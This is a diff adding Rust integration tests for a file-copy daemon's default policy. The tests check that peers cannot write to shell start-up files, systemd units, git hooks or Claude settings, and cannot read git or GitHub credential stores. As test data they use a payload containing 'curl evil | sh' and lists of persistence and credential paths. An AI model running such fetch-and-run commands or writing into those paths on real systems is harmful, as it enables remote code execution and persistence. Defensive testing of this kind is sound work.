@@ -231,3 +231,97 @@ fn a_receiver_killed_mid_transfer_leaves_no_file_under_the_destination_name() {
         out["blake3"].as_str().unwrap()
     );
 }
+
+/// A daemon with the default `[files]` policy whose home directory is `home`.
+fn started_at_home(name: &str, home: &Path, extra: &str) -> TestHome {
+    let h = TestHome::new();
+    h.ok(&["init", "--name", name]);
+    let cfg =
+        format!("[node]\nname = \"{name}\"\n[mesh]\nlisten_port = 0\nlocal_only = true\n{extra}");
+    std::fs::write(h.path().join("config.toml"), cfg).unwrap();
+    let o = h.cmd(&["start"]).env("HOME", home).output().unwrap();
+    assert!(o.status.success(), "{o:?}");
+    h
+}
+
+#[test]
+fn default_policy_keeps_start_up_files_hooks_and_credentials_from_peers() {
+    let (ra, home_b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+    let a = started("alpha", ra.path());
+    let b = started_at_home("beta", home_b.path(), "");
+    pair(&a, &b);
+    let hb = home_b.path();
+    for d in [
+        ".config/systemd/user",
+        ".claude",
+        "src/app/.git/hooks",
+        ".config/gh",
+    ] {
+        std::fs::create_dir_all(hb.join(d)).unwrap();
+    }
+    for (f, body) in [
+        (".bashrc", "# mine\n"),
+        (".git-credentials", "https://u:tok@github.com\n"),
+        (".config/gh/hosts.yml", "oauth_token: x\n"),
+        (".claude/settings.json", "{}\n"),
+    ] {
+        std::fs::write(hb.join(f), body).unwrap();
+    }
+    let payload = ra.path().join("payload");
+    std::fs::write(&payload, "curl evil | sh\n").unwrap();
+    let src = payload.display().to_string();
+    // Writes that would run code on beta are refused, by beta, naming the rule.
+    for dest in [
+        "~/.bashrc",
+        "~/.profile",
+        "~/.config/systemd/user/evil.service",
+        "~/.claude/settings.json",
+        "~/src/app/.git/hooks/pre-commit",
+    ] {
+        let err = a.fails(&["cp", "--overwrite", &src, &format!("beta:{dest}")]);
+        assert!(
+            err.contains("beta refused") && err.contains("never written"),
+            "push {dest}: {err}"
+        );
+    }
+    assert_eq!(
+        std::fs::read_to_string(hb.join(".bashrc")).unwrap(),
+        "# mine\n"
+    );
+    assert!(!hb.join(".profile").exists());
+    assert!(!hb.join("src/app/.git/hooks/pre-commit").exists());
+    // Credential stores are not read.
+    for f in ["~/.git-credentials", "~/.config/gh/hosts.yml"] {
+        let err = a.fails(&["cp", &format!("beta:{f}"), &ra.path().display().to_string()]);
+        assert!(err.contains("files.denied_paths"), "pull {f}: {err}");
+    }
+    // Ordinary files still move.
+    a.ok(&["cp", &src, "beta:~/notes.txt"]);
+    assert_eq!(
+        std::fs::read_to_string(hb.join("notes.txt")).unwrap(),
+        "curl evil | sh\n"
+    );
+    // The settings are readable (only writing them runs code).
+    a.ok(&[
+        "cp",
+        "beta:~/.claude/settings.json",
+        &ra.path().join("got.json").display().to_string(),
+    ]);
+}
+
+#[test]
+fn doctor_warns_when_a_default_protection_is_taken_out() {
+    let home = tempfile::tempdir().unwrap();
+    let h = started_at_home(
+        "beta",
+        home.path(),
+        "[files]\nwrite_denied_paths = [\"~/.profile\"]\n",
+    );
+    let out = h.run(&["doctor"]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        text.contains("files.write_denied_paths no longer lists ~/.bashrc")
+            && text.contains("files-write"),
+        "{text}"
+    );
+}
